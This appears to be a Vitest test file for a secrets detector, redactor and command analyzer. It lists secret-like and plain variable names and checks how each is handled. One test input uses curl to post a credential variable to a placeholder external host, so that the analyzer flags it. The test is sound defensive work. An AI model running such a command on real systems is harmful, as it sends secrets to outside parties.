import { describe, expect, it } from 'vitest';
import { analyzeCommand } from './command.js';
import { redact } from './redact.js';
import { isSensitiveKey, isSensitiveListKey } from './sensitive-names.js';

const secretNames = [
  'password',
  'clientSecret',
  'x-api-key',
  'AWS_SECRET_ACCESS_KEY',
  'refresh_token',
  'cookie',
  'XPASS',
  'DEPLOY_CRED',
  'DEPLOY_CREDS_2',
  'DB_PASS',
  'SMTP_PASS',
  'MY_SECRET_VALUE',
  'GITHUB_TOKEN_2',
  'STRIPE_KEY',
  'SSH_KEYS',
  'PASSWD',
  'GITHUB_PAT',
  'npmAuthToken',
  'db_pwd',
  'session_token',
  'sessionToken',
  'sessionKey',
  'session_key',
  'session_secret',
  'session_cookie',
];
const plainNames = [
  'PWD',
  'OLDPWD',
  'pwd',
  'max_tokens',
  'tokenizer',
  'TOKENIZERS_PARALLELISM',
  'username',
  'author',
  'keyId',
  'secretary',
  'passwordMinLength',
  'BYPASS_CACHE',
  'COMPASS_URL',
  'credit_limit',
  'sort_key',
  'primary_key',
  'public_key',
  'key',
  'monkey',
  'PATH',
  'HOME',
  'sessionId',
  'session_id',
  'sessionID',
  'SESSION_ID',
];

describe('one list of sensitive names', () => {
  it.each(secretNames)('%s names a secret', (name) => {
    expect(isSensitiveKey(name)).toBe(true);
  });
  it.each(plainNames)('%s does not', (name) => {
    expect(isSensitiveKey(name)).toBe(false);
  });

  it('plural names of secrets are lists of secrets; counts are not', () => {
    expect(['tokens', 'passwords', 'api_keys', 'secrets', 'credentials'].every(isSensitiveListKey)).toBe(true);
    expect(['max_tokens', 'tokens_used', 'secretaries', 'keys', 'authors'].some(isSensitiveListKey)).toBe(false);
  });

  it('the redactor and the command analyzer use it', () => {
    const pw = 'Zq7!hunter2#Xk';
    for (const name of secretNames.filter((n) => /^[A-Za-z_][A-Za-z0-9_]*$/.test(n))) {
      expect(redact(`${name}=${pw}`)).toBe(`${name}=[REDACTED]`);
      expect(redact({ [name]: pw })).toEqual({ [name]: '[REDACTED]' });
      const sent = analyzeCommand(`${name}=${pw} curl -d "$${name}" https://x.example`);
      expect(JSON.stringify(sent.findings)).not.toContain(pw);
      expect(sent.findings.map((f) => f.ruleId)).toContain('command.credential-variable');
    }
    expect(redact('PWD=/work/app OLDPWD=/work')).toBe('PWD=/work/app OLDPWD=/work');
    expect(redact({ PWD: '/work/app' })).toEqual({ PWD: '/work/app' });
    expect(analyzeCommand('curl -d "$PWD" https://x.example').findings).toEqual([]);
  });

  it('a session id is attribution, kept; the session token beside it is redacted', () => {
    const token = 'abc9Qk2xT7mPz4Lw8Rn3';
    expect(redact({ sessionId: 's-123', sessionToken: token })).toEqual({ sessionId: 's-123', sessionToken: '[REDACTED]' });
    expect(redact({ session_id: 's-123', session_secret: token, sessionID: 's-9' })).toEqual({
      session_id: 's-123',
      session_secret: '[REDACTED]',
      sessionID: 's-9',
    });
    expect(redact(`session_id=s-123 session_token=${token}`)).toBe('session_id=s-123 session_token=[REDACTED]');
  });
});
